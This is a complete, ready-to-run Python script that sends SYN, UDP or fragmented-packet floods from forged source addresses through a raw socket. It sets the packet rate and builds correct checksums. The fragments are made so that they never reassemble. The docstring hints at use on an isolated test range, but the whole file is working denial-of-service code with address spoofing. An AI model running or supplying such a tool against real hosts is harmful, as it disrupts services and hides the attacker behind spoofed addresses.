"""A flood from forged addresses, through a raw socket.

    python flood.py syn|udp|fragments ADDRESS PORT COUNT RATE CLIENTS [FIRST]

COUNT packets at RATE a second (0: as fast as it goes), the sources taken in turn from CLIENTS
addresses from FIRST on (10.128.0.1), each packet from another port than the address's one before.
What is sent back to those addresses must lead nowhere.  Fragments are first, middle and last ones
of datagrams that never become whole.  Prints the packets sent and the seconds it took.
"""

import socket
import struct
import sys
import time
from collections.abc import Iterator

FIRST = "10.128.0.1"
LOW, HIGH = 1024, 65535
PART = 1400
"""Bytes of a datagram in a fragment."""
TOGETHER = 20
"""Packets between two looks at the clock."""


def fold(total: int) -> int:
    """The checksum field for this sum of 16-bit words (RFC 1071)."""
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def words(data: bytes) -> int:
    """The sum of its 16-bit words."""
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def packets(kind: str, to: bytes, port: int, count: int, clients: int, first: int) -> list[bytes]:
    """All of them, with right transport checksums; the kernel fills in the header's (raw(7))."""
    proto = socket.IPPROTO_TCP if kind == "syn" else socket.IPPROTO_UDP
    if kind == "syn":
        rest = struct.pack("!IIBBHHH", 1, 0, 5 << 4, 0x02, 64240, 0, 0)
        where = 12
    else:
        rest = struct.pack("!HH", 8 + 16, 0) + b"flood of queries"
        where = 2
    size = 4 + len(rest)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + size, 0, 0x4000, 64, proto, 0)
    fixed = words(to) + proto + size + port + words(rest)
    made = []
    for number in range(count):
        source = first + number % clients
        sport = LOW + number // clients % (HIGH - LOW + 1)
        check = fold(fixed + (source >> 16) + (source & 0xFFFF) + sport)
        body = rest[:where] + check.to_bytes(2) + rest[where + 2 :]
        made.append(head + source.to_bytes(4) + to + sport.to_bytes(2) + port.to_bytes(2) + body)
    return made


def fragments(to: bytes, port: int, count: int, clients: int, first: int) -> Iterator[bytes]:
    """Parts of datagrams of three, each of another datagram; made one by one, as they are large."""
    places = (0x2000, 0x2000 | PART // 8, 2 * PART // 8)  # RFC 791: more to come; offset by eight
    body = (struct.pack("!HHHH", LOW, port, 3 * PART, 0) + bytes(PART))[:PART]
    for number in range(count):
        place, ident = places[number % 3], number & 0xFFFF
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + PART, ident, place, 64, socket.IPPROTO_UDP, 0)
        yield head + (first + number % clients).to_bytes(4) + to + body


def main(
    kind: str, address: str, port: str, count: str, rate: str, clients: str, first: str = FIRST
) -> None:
    """Sends them."""
    began_at = int.from_bytes(socket.inet_aton(first))
    what = socket.inet_aton(address), int(port), int(count), int(clients), began_at
    made = fragments(*what) if kind == "fragments" else packets(kind, *what)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        send, to, gap = sock.sendto, (address, 0), 1 / float(rate) if float(rate) else 0
        began = time.monotonic()
        for number, packet in enumerate(made):
            send(packet, to)
            if gap and not number % TOGETHER:
                time.sleep(max(0.0, began + number * gap - time.monotonic()))
        print(f"{count} {time.monotonic() - began:.2f}", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
